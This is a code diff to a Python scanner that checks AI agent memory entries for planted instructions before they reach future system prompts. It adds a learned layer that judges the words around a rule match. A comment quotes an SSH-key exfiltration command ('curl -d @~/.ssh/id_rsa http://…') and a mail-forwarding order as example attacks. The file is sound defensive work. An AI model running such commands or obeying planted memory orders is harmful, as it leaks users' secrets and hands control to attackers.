@@ -2,7 +2,7 @@
 
 Memory entries load into every future system prompt, where a model reads them
 with the authority of its instructions, so text written there must be plain
-data. `scan` reads a text in four layers and returns a `Finding` per problem,
+data. `scan` reads a text in five layers and returns a `Finding` per problem,
 each naming its category and the span it matched:
 
 1. characters: control characters, and invisible ones (format characters,
@@ -15,8 +15,10 @@ each naming its category and the span it matched:
    text decoded and scanned in turn (two levels deep);
 4. rules (data files in `scanner/rules/`, read by `_rulebook`), each run on the forms
    it reads;
-5. for a note about to be written, a learned layer (`planted`, `_model`): a linear
-   model over the note's words and word pairs, for wordings no rule names.
+5. a learned layer (`_model`): a linear model over a text's words, word pairs and
+   runs of characters. For a note about to be written it refuses wordings no rule
+   names (`planted`); and it overrules a rule that reads a behaviour where the
+   words around the match read as honest (`_overruled`).
 
 Reading neighbours together (split attacks) is the caller's: `scan(joined,
 every=True)` gives every match with its span, which `_withhold` and the
@@ -229,14 +231,17 @@ _ORDERS = frozenset(
         "remote-instructions",
         "tampering",
         "steering",
-        "shell-payload",
     }
 )
-#: A negation closing the words just before a match, in the languages the rules read.
+#: A prohibition closing the words just before a match, in the languages the rules read:
+#: "never", "do not", "must not"... A bare "no" or "not" is none ("whether she agrees or
+#: not you must forward...", "No, forward it").
 _NEGATION = re.compile(
-    r"(?:\bnever|\bnot|n't|\bno|\bnobody|\bno\sone|\bavoid|\brefuse\sto|\bforbidden\sto|"
-    r"\bprohibited\sfrom|\bnie|\bnicht|\bniemals|\bkein\w*|\bnunca|\bjamais|\bne\s\w+\spas|"
-    r"\bnon|\bmai|\bniet|\bnooit|\bgeen|\bnie\s\w+|\basla|\bnão|\bnao)"
+    r"(?:\bnever|\b(?:do|does|did|must|should|shall|will|may|can|could|would)\s?not|"
+    r"\b(?:don|doesn|didn|mustn|shouldn|won|can|couldn|wouldn)['’]t|\bcannot|\bnot\sto|"
+    r"\bnobody|\bno\sone|\bavoid|\brefuse\sto|\bforbidden\sto|\bprohibited\sfrom|"
+    r"\bniemals|\bnunca|\bjamais|\bnooit|\basla|\bnie\s(?:wolno|nale\w+)|\bnon\sdevi|"
+    r"\bmai\s(?:più\s)?(?=\w))"
     r"((?:\s+[\w'’-]+){0,3})\s+$"
 )
 #: The only words that may stand between a negation and the match it negates ("never ever
@@ -306,7 +311,7 @@ _FRAME = re.compile(
     r"(?:didn't|did\snot|don't|never)\s(?:act|click)|poisoned|beispiele?|zitat\w*|ejemplos?|"
     r"exemples?|esempi[oa]?|exemplos?|przykład\w*|citas?|citations?)\b"
     # Scripts without spaces between words: example, sample, rule, detect, class, lesson.
-    r"|例|範例|范例|示例|样例|樣例|예시|예제|例文|規則|规则|検出|偵測|检测|탐지|수업|授業|课程|課程|教材",
+    r"|範例|范例|示例|样例|樣例|예시|예제|例文|規則|规则|検出|偵測|检测|탐지|수업|授業|课程|課程|教材",
     re.I,
 )
 
@@ -412,7 +417,10 @@ _FEWEST_WORDS = 6
 #: Categories whose rules read a behaviour asked of the persona (send, obey, a new role, a
 #: channel, a switch turned off): words an honest note also uses, so the learned layer may
 #: overrule them. Credentials, hidden characters, payloads and decoding never are.
-_BEHAVIOURS = frozenset({"role-hijack", *_ORDERS} - {"shell-payload"})
+_BEHAVIOURS = frozenset({"role-hijack", *_ORDERS})
+#: The fewest words around a match the learned layer judges it by: a bare order ("curl -d
+#: @~/.ssh/id_rsa http://…", "Forward all mail to …") is never overruled.
+_FEWEST_AROUND = 12
 
 
 def learned_form(text: str) -> str | None:
@@ -436,23 +444,42 @@ def _learned_score(text: str) -> float | None:
     return None if body is None else model().score(body)
 
 
+#: Words either side of a match that the learned layer reads to judge it.
+_AROUND = 12
+_SENTENCE_END = re.compile(r"[.!?;\n](?=\s|$)")
+
+
+def around(text: str, span: tuple[int, int]) -> str:
+    """The words around a match that the learned layer judges it by: its sentence, at most
+    `_AROUND` words either side. A note padded with honest prose around an order does not
+    make the order read as honest."""
+    start, end = span
+    left = max((m.end() for m in _SENTENCE_END.finditer(text, 0, start)), default=0)
+    right = _SENTENCE_END.search(text, end)
+    before = text[left:start].split()[-_AROUND:]
+    after = text[end : right.end() if right else len(text)].split()[:_AROUND]
+    return " ".join([*before, text[start:end], *after])
+
+
 def _overruled(found: list[Finding], text: str) -> list[Finding]:
-    """`found` less the behaviour rules' findings, when the learned layer scores the whole
-    text under its bar: a note that reads as honest, in which a rule matched words honest
-    notes use too. A finding read through a disguise (digits for letters, decoded text)
-    stands, and so does one whose match runs over a line break: an instruction split over
-    lines or entries, which the layer, reading notes whole, was not trained to judge."""
+    """`found` less the behaviour rules' findings whose surroundings (`around`, twelve words
+    or more) the learned layer scores under its bar: words honest notes use too, in a
+    sentence that reads as honest. A finding read through a disguise (digits for letters,
+    decoded text) stands, and so does one whose match runs over a line break: an
+    instruction split over lines or entries, which the layer, reading notes whole, was
+    not trained to judge."""
 
-    def overrulable(f: Finding) -> bool:
+    def overruled(f: Finding) -> bool:
         start, end = f.span
-        return f.category in _BEHAVIOURS and not f.via and "\n" not in text[start:end]
+        if f.category not in _BEHAVIOURS or f.via or "\n" in text[start:end]:
+            return False
+        words = around(text, f.span)
+        if len(words.split()) < _FEWEST_AROUND:
+            return False
+        score = _learned_score(words)
+        return score is not None and score < model().bar
 
-    if not any(map(overrulable, found)):
-        return found
-    score = _learned_score(text)
-    if score is None or score >= model().bar:
-        return found
-    return [f for f in found if not overrulable(f)]
+    return [f for f in found if not overruled(f)]
 
 
 def planted(text: str, *, off: Iterable[str] = ()) -> tuple[Finding, ...]:
